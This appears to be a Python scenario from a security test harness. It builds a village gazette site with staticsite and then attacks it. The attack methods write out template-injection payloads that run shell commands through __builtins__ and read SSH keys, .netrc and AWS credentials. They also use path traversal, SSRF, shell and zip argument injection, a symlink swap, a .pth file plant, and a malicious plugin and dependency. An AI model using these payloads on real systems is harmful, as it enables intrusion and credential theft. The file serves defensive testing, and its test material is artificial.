# SPDX-License-Identifier: Apache-2.0
"""A gazette's site by staticsite, with features in the theme."""

from attackers import in_yaml
import stage

ALMANAC = {"__init__.py": "PHASES = ['new', 'waxing', 'full', 'waning']\n\n\n"
                          "def moon(day):\n"
                          "    return PHASES[int(day) // 7 % 4]\n"}
ALMANAC_NEW = {
    "__init__.py": "from .phases import moon\n\n__all__ = ['moon']\n",
    "phases.py": "from importlib import resources\n\n\n"
                 "def moon(day):\n"
                 "    names = resources.files('almanac').joinpath("
                 "'phases.csv').read_text().strip().split(',')\n"
                 "    return names[int(day) // 7 % 4]\n",
    "phases.csv": "new,waxing,full,waning\n"}
BUILTINS = "cycler.__init__.__globals__.__builtins__"


class StaticsiteGazette(stage.Program):
    """A village's gazette, built from what people send in (staticsite)."""
    packages = ["staticsite", "libimage-exiftool-perl", "zip"]

    def arrange(self):
        stage.write(self.srv / "publish.token", f"{stage.SECRET}\n", 0o600)
        for name in ("packs", "previews"):
            (self.srv / name).mkdir()
        self.install("almanac", "1.3.0", ALMANAC)
        self.page("events/2026/market.md", "Market", "Cheese and wine.",
                  day="2026-03-07", tags="market, food")
        self.page("events/2026/fair.md", "Fair", "![fair](fair.png)",
                  day="2026-04-02", tags="fair")
        stage.write(self.srv / "content/events/2026/fair.png", stage.png(80))
        stage.write(self.srv / "content/notice.rst",
                    ":date: 2026-01-02 10:00:00\n:tags: [notice]\n\n"
                    "Notice\n======\n\nThe *road* is closed.\n")

    def arrange_benign(self):
        self.install("almanac", "1.4.0", ALMANAC_NEW)

    # ------------------------------------------------------------ ordinary use
    def page(self, name, title, text, day="2026-05-01", tags="village"):
        return stage.write(
            self.srv / "content" / name,
            f"---\ndate: {day} 10:00:00\ntags: [{tags}]\n---\n"
            f"# {title}\n\n{text}\n")

    def template(self, name, title, text, day="2026-05-01"):
        """A page of Jinja's."""
        return stage.write(
            self.srv / "content" / name,
            '{% extends "base.html" %}\n{% block front_matter %}\n---\n'
            f"date: {day} 09:00:00\n{{% endblock %}}\n"
            f"{{% block title %}}{title}{{% endblock %}}\n"
            f"{{% block content %}}{text}{{% endblock %}}\n")

    def ssite(self, *words):
        return self.run(self.python, "/usr/bin/ssite", *words)

    def does(self, *words, status=0, found="", made=()):
        self.expect_run(words, self.ssite(*words), status, found, made)

    def press(self, *words):
        return self.run(self.python, "press.py", *words)

    def presses(self, name):
        for words, made in ((("pack", name), f"packs/{name}.zip"),
                            (("sums",), "packs/sums.json")):
            self.expect_run(words, self.press(*words), made=[made])

    def shows(self, name, text):
        path = self.srv / "web" / name
        self.expect(f"{text} in {name}", path.exists()
                    and text in path.read_text(), self.ls("web"))

    def ls(self, name):
        return sorted(str(path.relative_to(self.srv / name))
                      for path in (self.srv / name).rglob("*.html"))

    def weather(self):
        site = self.site("weather")
        site.page("*", "sunny, 21 degrees")
        return site.url

    def train(self, day):
        url = self.weather()
        self.does("build", made=["web/index.html", "web/events/index.html"])
        self.shows("index.html", "Welcome to the <b>village")
        self.page(f"events/2026/day-{day}.md", f"Day {day}",
                  "```py\nprint(1)\n```", f"2026-03-1{day}", f"tag{day}")
        self.page(f"events/202{day}/spring{day}.md", "Spring", "Flowers",
                  f"202{day}-04-04")
        self.page(f"letters/from-anna-{day}.md", "Anna writes",
                  "[fair](../events/2026/fair.md)")
        stage.write(self.srv / f"content/pictures/p{day}.png", stage.png(70 + day))
        stage.write(self.srv / f"content/pictures/list{day}.pdf", b"%PDF")
        stage.write(self.srv / "content/people.json",
                    '{"data_type": "people", "title": "People", '
                    f'"date": "2026-01-0{day}", "names": ["anna"]}}')
        stage.write(self.srv / f"content/tables/{day}/rain.csv", "1,2\n")
        self.template(f"rain-{day}.html", "Rain",
                      "{% set f = figures('rain') %}"
                      "{{ chart('bars', f['values']) }} " f"{{{{ moon({day}) }}}}")
        stage.write(self.srv / f"figures/visits{day}.yaml",
                    f"year: 202{day}\nvalues: [{day}, 7]\n")
        self.template(f"visits{day}.html", "Visits", "{{ chart('bars', "
                      f"figures('visits{day}')['values']) }}}}")
        self.template(f"guests{day}.html", "Guests",
                      "{{ chart('dots', figures('guests')['values']) }} "
                      "{{ snippet('contact.html') }}")
        self.template("weather.html", "Weather",
                      f"{{{{ forecast('{url}/2026/0{day}') }}}} "
                      f"{{{{ count('12*{day}') }}}}")
        self.does("build", made=[f"web/events/2026/day-{day}/index.html",
                                 f"web/pictures/p{day}-small.png"])
        self.shows(f"rain-{day}.html", "<rect")
        self.shows("weather.html", "sunny")
        self.does("new", "-n", "-t", f"Concert {day}", found="concert")
        self.does("new", "-n", "-a", "letter", "-t", f"Ben asks, {day}",
                  made=[f"content/letters/ben-asks-{day}.md"])
        self.does("check")
        self.does("build", "--draft", "-o", f"previews/concert{day}",
                  made=[f"previews/concert{day}/index.html"])
        (self.srv / f"content/events/2026/day-{day}.md").unlink()
        (self.srv / f"content/pictures/p{day}.png").unlink()
        self.does("build")
        self.expect("left over is gone", not (
            self.srv / f"web/events/2026/day-{day}").exists())
        self.does("build", "-f", "-v")
        self.presses(("2026-01", "easter", "summer-26")[day - 1])
        self.does("build", "--path", "letters")
        self.does("dump", "--nodes")
        self.template("broken.html", "Broken", "{{ snippet('none.html') }}")
        self.does("build", status=1)

    def benign(self):
        url = self.weather()
        self.does("build", made=["web/index.html"])
        self.page("events/2031/été à la mer.md", "Été", "Plage",
                  "2025-07-14", "mer, été")
        self.page("events/2024/v1.2/deep/er/note.md", "Note", "deep",
                  "2024-11-30", "v1.2")
        self.page("letters/Hans Peter (2).md", "Hans", "Grüße")
        stage.write(self.srv / "content/letters/second.rst",
                    ":date: 2026-02-02 10:00:00\n\nSecond\n======\n\nYes.\n")
        stage.write(self.srv / "content/pictures/2027/May/b.v2.png", stage.png(120))
        stage.write(self.srv / "content/pictures/logo.svg",
                    "<svg xmlns='http://www.w3.org/2000/svg'/>")
        stage.write(self.srv / "content/pictures/song no 4.ogg", b"OggS" * 99)
        stage.write(self.srv / "content/tables/2027/q3/guests.ods", b"PK")
        stage.write(self.srv / "content/clubs/chess.json",
                    '{"data_type": "people", "title": "Chess", '
                    '"date": "2026-01-09"}')
        stage.write(self.srv / "content/empty/.keep", "")
        stage.write(self.srv / "figures/snow.yaml",
                    "year: 2027\nvalues: [0.5, 90]\n")
        stage.write(self.srv / "snippets/thanks-2027.html", "<i>Thanks</i>")
        self.template("snow 2027.html", "Snow",
                      "{{ chart('dots', figures('snow')['values']) }}"
                      "{{ snippet('thanks-2027.html') }}{{ moon(28) }}")
        self.template("reports/weather.html", "Weather",
                      f"{{{{ forecast('{url}/archive/2027?unit=C') }}}}"
                      "{{ count('round(100/7, 2)') }}")
        self.does("build", made=[
            "web/events/2024/v1.2/deep/er/note/index.html",
            "web/pictures/2027/May/b.v2-small.png",
            "web/pictures/song no 4.ogg"])
        self.shows("snow 2027.html", "Thanks")
        self.shows("reports/weather.html", "14.29")
        self.does("new", "-n", "-t", "Große Feier: 100 Jahre!",
                  found="feier")
        self.does("new", "-n", "-a", "letter", "-t", "d.vries: why?",
                  made=["content/letters/d-vries-why.md"])
        self.does("new", "-n", "-a", "none", "-t", "x", status=1,
                  found="not found")
        self.does("check")
        self.does("build", "--draft", "-o", "previews/Hans Peter v1.2",
                  made=["previews/Hans Peter v1.2/index.html"])
        (self.srv / "content/pictures/2027/May/b.v2.png").unlink()
        (self.srv / "content/events/2024/v1.2/deep/er/note.md").rename(
            self.srv / "content/events/2024/v1.2/moved.md")
        self.does("build", "--fail-fast", "-v",
                  made=["web/events/2024/v1.2/moved/index.html"])
        self.expect("left over is gone", not (
            self.srv / "web/events/2024/v1.2/deep").exists())
        self.does("build", "--path", "events/2026")
        self.does("dump", "--nodes")
        self.presses("special-2027.12")
        self.does("build", "--no-such-option", status=2)
        self.template("lost.html", "Lost", "{{ figures('none') }}")
        self.does("build", status=1)

    def health(self):
        self.page("letters/from-anna-1.md", "Anna writes",
                  "[fair](../events/2026/fair.md)")
        self.does("build", made=["web/index.html",
                                 "web/letters/from-anna-1/index.html"])

    # ----------------------------------------------------------------- attacks
    def sent_in(self, text):
        """What becomes of a page that somebody sends in."""
        path = self.template("letters/evil.html", "Evil", text)
        self.ssite("build")
        path.unlink()
        made = self.srv / "web/letters/evil.html"
        return made.read_text() if made.exists() else ""

    def runs(self, code):
        """code: statements, in a template."""
        return self.sent_in(f"{{{{ {BUILTINS}.exec({code!r}) }}}}")

    def loads(self, code):
        """code: statements, in figures."""
        stage.write(self.srv / "figures/evil.yaml", in_yaml(code))
        return self.sent_in("{{ figures('evil') }}")

    @stage.attack("template injection")
    def page_runs_a_command(self):
        return self.runs_line(lambda line: self.sent_in(
            f"{{{{ {BUILTINS}.__import__('os').system('{line}') }}}}"))

    @stage.attack("template injection")
    def page_shows_a_key(self):
        return self.is_told(self.sent_in(
            f"{{{{ {BUILTINS}.open('{self.home}/.ssh/id_rsa').read() }}}}"))

    @stage.attack("traversal")
    def snippet_is_the_payroll(self):
        return self.is_told(self.sent_in(
            "{{ snippet('../../payroll/2026.csv') }}"))

    @stage.attack("secret disclosure")
    def snippet_is_a_password(self):
        return self.is_told(self.sent_in(
            f"{{{{ snippet('{self.home}/.netrc') }}}}"))

    @stage.attack("secret disclosure")
    def snippet_is_the_token(self):
        return self.is_told(self.sent_in("{{ snippet('../publish.token') }}"))

    @stage.attack("source disclosure")
    def snippet_is_the_source(self):
        return "HOLE" in self.sent_in(
            "{{ snippet('../themes/village/features/village.py') }}")

    @stage.attack("SSRF")
    def forecast_is_an_internal_service(self):
        return self.fetches_inside(
            lambda url: self.sent_in(f"{{{{ forecast('{url}') }}}}"))

    @stage.attack("SSRF")
    def forecast_is_redirected_inside(self):
        return self.is_redirected_inside("weather", lambda url: self.sent_in(
            f"{{{{ forecast('{url}') }}}}"))

    @stage.attack("secret disclosure")
    def forecast_is_a_local_file(self):
        return self.is_told(self.sent_in(
            f"{{{{ forecast('file://{self.home}/.aws/credentials') }}}}"))

    @stage.attack("unsafe yaml")
    def figures_call_home(self):
        return self.calls_home(self.loads)

    @stage.attack("exfiltration")
    def figures_send_credentials(self):
        return self.steals(self.loads)

    @stage.attack("eval injection")
    def count_runs_a_command(self):
        return self.runs_line(lambda line: self.sent_in(
            "{{ count(\"__import__('os').popen('" + line
            + "').read()\") }}"))

    @stage.attack("ctypes")
    def count_calls_libc(self):
        return self.runs_libc(lambda code: self.sent_in(
            f"{{{{ count({code!r}) }}}}"))

    @stage.attack("fork+exec")
    def page_forks(self):
        return self.forks(self.runs)

    @stage.attack("write to code")
    def page_changes_the_feature(self):
        target = self.srv / "themes/village/features/village.py"
        self.runs(f"open({str(target)!r}, 'a').write('# planted')")
        return "# planted" in target.read_text()

    @stage.attack("write to start-up file")
    def page_writes_a_pth_file(self):
        target = self.site_packages / "g.pth"
        self.runs(f"open({str(target)!r}, 'w').write('import os')")
        return target.exists()

    @stage.attack("command injection")
    def pack_runs_a_command(self):
        self.ssite("build")
        return self.runs_line(lambda line: self.press(
            "pack", f"x.zip index.html; {line}; true "))

    @stage.attack("argument injection")
    def pack_is_tested_by_a_shell(self):
        self.ssite("build")
        return self.runs_line(lambda line: self.press(
            "pack", f"x.zip -T -TT 'sh -c \"{line}\" #' index.html"))

    @stage.attack("write to start-up file")
    def preview_replaces_the_home(self):
        self.ssite("build", "-o", "previews/../../home/.ssh")
        return (self.home / ".ssh/index.html").exists()

    @stage.attack("symlink swap")
    def picture_is_a_link(self):
        (self.srv / "content/letters/x.txt").symlink_to(
            self.place / "payroll/2026.csv")
        self.ssite("build")
        made = self.srv / "web/letters/x.txt"
        return made.exists() and self.is_told(made.read_bytes())

    @stage.attack("malicious plugin")
    def theme_brings_a_feature(self):
        def use(line):
            path = stage.write(
                self.srv / "themes/village/features/evil.py",
                f"import os\nos.system('{line}')\nFEATURES = {{}}\n")
            self.ssite("build")
            path.unlink()
        return self.runs_line(use)

    @stage.attack("malicious dependency")
    def almanac_steals_credentials(self):
        return self.dependency_steals("almanac", "1.3.1", ALMANAC,
                                      lambda: self.ssite("build"))
